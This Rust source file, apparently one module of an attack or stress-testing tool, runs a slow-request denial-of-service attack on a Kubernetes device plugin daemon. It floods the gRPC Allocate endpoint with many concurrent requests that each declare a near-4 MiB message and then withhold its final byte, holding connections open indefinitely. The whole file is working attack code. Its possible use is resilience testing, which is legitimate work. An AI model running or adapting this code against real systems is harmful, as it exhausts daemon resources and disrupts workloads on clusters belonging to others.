//! Requests that are never complete.

use std::convert::Infallible;
use std::pin::Pin;
use std::task::{Context, Poll};
use std::time::Duration;

use anyhow::Result;
use bytes::Bytes;
use http_body::Frame;
use tokio::task::JoinSet;
use tokio::time::sleep;
use tonic::body::Body;
use tonic::transport::Channel;
use tower_service::Service;

use crate::target::{Target, block_on};

/// More connections than the two sockets of the daemon accept.
const CONNECTIONS: usize = 32;

/// More calls at the same time than a connection may make.
const CALLS: usize = 16;

/// The length of each request, the longest that the daemon reads.
const LENGTH: u32 = 4 * 1024 * 1024 - 1024;

const CHUNK: usize = 16 * 1024;

/// Leaves some connections to the kubelet and to the other attacks.
pub(super) fn unfinished(target: &Target) -> Result<u64> {
    block_on(async {
        let mut calls = JoinSet::new();
        let mut count = 0;
        while target.goes_on(count) {
            while calls.try_join_next().is_some() {}
            let number = usize::try_from(count).unwrap_or(0);
            if calls.len() < CONNECTIONS * CALLS
                && let Some(client) = target.client(number).await?
            {
                for _ in 0..CALLS {
                    calls.spawn(call(client.clone()));
                    count += 1;
                }
            } else {
                sleep(Duration::from_millis(10)).await;
            }
            tokio::task::yield_now().await;
        }
        Ok(count)
    })
}

async fn call(mut client: Channel) {
    let mut prefix = vec![0];
    prefix.extend(LENGTH.to_be_bytes());
    let body = Unfinished { prefix: Some(prefix.into()), left: LENGTH as usize - 1 };
    let request = http::Request::post("http://localhost/v1beta1.DevicePlugin/Allocate")
        .header("content-type", "application/grpc")
        .body(Body::new(body))
        .expect("the request is valid");
    if std::future::poll_fn(|cx| client.poll_ready(cx)).await.is_ok() {
        // The daemon refuses the call or closes the connection, or the attack ends.
        let _ = client.call(request).await;
    }
}

/// All of a message but its last byte.
struct Unfinished {
    prefix: Option<Bytes>,
    left: usize,
}

impl http_body::Body for Unfinished {
    type Data = Bytes;
    type Error = Infallible;

    fn poll_frame(
        mut self: Pin<&mut Self>,
        _: &mut Context<'_>,
    ) -> Poll<Option<Result<Frame<Bytes>, Infallible>>> {
        static ZEROS: [u8; CHUNK] = [0; CHUNK];
        if let Some(prefix) = self.prefix.take() {
            return Poll::Ready(Some(Ok(Frame::data(prefix))));
        }
        if self.left == 0 {
            // The task is never woken, because the last byte never arrives.
            return Poll::Pending;
        }
        let length = self.left.min(CHUNK);
        self.left -= length;
        Poll::Ready(Some(Ok(Frame::data(Bytes::from_static(&ZEROS[..length])))))
    }
}
